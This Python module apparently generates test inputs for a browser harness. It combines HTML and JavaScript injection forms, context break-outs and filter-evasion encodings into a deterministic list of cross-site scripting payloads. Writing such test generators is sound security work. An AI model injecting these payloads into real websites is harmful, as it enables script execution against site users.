"""Texts that would run as script on a page that does not escape: families × places of breaking out × spellings.

Made here, by rule, and it knows nothing of the pages. ``__xss`` is a function that the browser counts calls of;
``alert`` opens a dialog, which the browser counts as well.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

CALLS = ("__xss(1)", "alert(1)", "window['__x'+'ss'](1)")

# {js} is what would run. Openers that swallow what follows (noscript, style, title) come last in a page.
FAMILIES: dict[str, str] = {
    "script": "<script>{js}</script>",
    "script source": '<script src="data:text/javascript,{js}"></script>',
    "module": '<script type="module">{js}</script>',
    "image error": "<img src=x onerror={js}>",
    "image set": '<img srcset="x 1x" onerror="{js}">',
    "svg load": "<svg onload={js}>",
    "svg script": "<svg><script>{js}</script></svg>",
    "svg animate": '<svg><animate onbegin="{js}" attributeName=x dur=1s>',
    "svg link": '<svg><a xlink:href="javascript:{js}"><text y=9>x</text></a></svg>',
    "math": '<math><maction actiontype="statusline" xlink:href="javascript:{js}">x</maction></math>',
    "body load": '<body onload="{js}">',
    "frame source": '<iframe src="javascript:{js}"></iframe>',
    "frame document": "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "object": '<object data="javascript:{js}"></object>',
    "embed": '<embed src="javascript:{js}">',
    "link": '<a href="javascript:{js}" autofocus>x</a>',
    "focus": '<input autofocus onfocus="{js}">',
    "details": '<details open ontoggle="{js}">x</details>',
    "video": '<video><source onerror="{js}"></video>',
    "audio": '<audio src=x onerror="{js}"></audio>',
    "marquee": '<marquee onstart="{js}">x</marquee>',
    "animation": '<b style="animation:x 1s" onanimationstart="{js}">x</b>',
    "refresh": '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    "form": '<form action="javascript:{js}"><button autofocus>x</button></form>',
    "base": '<base href="javascript:{js}//">',
    "popover": '<b popover onbeforetoggle="{js}" id=p>x</b>',
    "mutation": "<noscript><p title='</noscript><img src=x onerror={js}>'></noscript>",
    "template": '{{{{constructor.constructor("{js}")()}}}}${{{js}}}{{% debug %}}',
}

PLACES: dict[str, str] = {
    "text": "{x}",
    "double quoted": '">{x}',
    "single quoted": "'>{x}",
    "attribute": '" autofocus onfocus="{js}" x="{x}',
    "textarea": "</textarea>{x}",
    "title": "</title>{x}",
    "script block": "</script>{x}",
    "script string": "';{js};'{x}",
    "style": "</style>{x}",
    "comment": "-->{x}",
    "cdata": "]]>{x}",
}


def _tabs(text: str) -> str:
    return text.replace(" ", "\t\n", 1).replace("javascript:", "java\tscript:")


def _entities(text: str) -> str:
    return "".join(f"&#x{ord(sign):x};" if sign in "<>\"'" else sign for sign in text)


SPELLINGS: dict[str, Callable[[str], str]] = {
    "plain": lambda text: text,
    "capitals": lambda text: text.replace("script", "ScRiPt").replace("on", "oN", 1),
    "tabs": _tabs,
    "strokes": lambda text: text.replace(" ", "/", 1),
    "entities": _entities,
    "escaped": lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    "wide": lambda text: text.replace("<", "＜").replace(">", "＞"),
    "percent": lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    "doubled": lambda text: text.replace("<", "<<").replace("script", "scrscriptipt"),
}


def payloads() -> Iterator[str]:
    """All of them, always in the same order; no two are alike."""
    seen: set[str] = set()
    number = 0
    for family in FAMILIES.values():
        for place in PLACES.values():
            for spelled in SPELLINGS.values():
                js = CALLS[number % len(CALLS)]
                number += 1
                text = spelled(
                    place.replace("{x}", family.replace("{{", "{").replace("}}", "}")).replace("{js}", js)
                )
                if text not in seen:
                    seen.add(text)
                    yield text


def spread(count: int) -> list[str]:
    """So many of them, spread evenly over families, places and spellings."""
    every = list(payloads())
    step = max(1, len(every) // count)
    return every[:: step if step % 2 else max(1, step - 1)][:count]
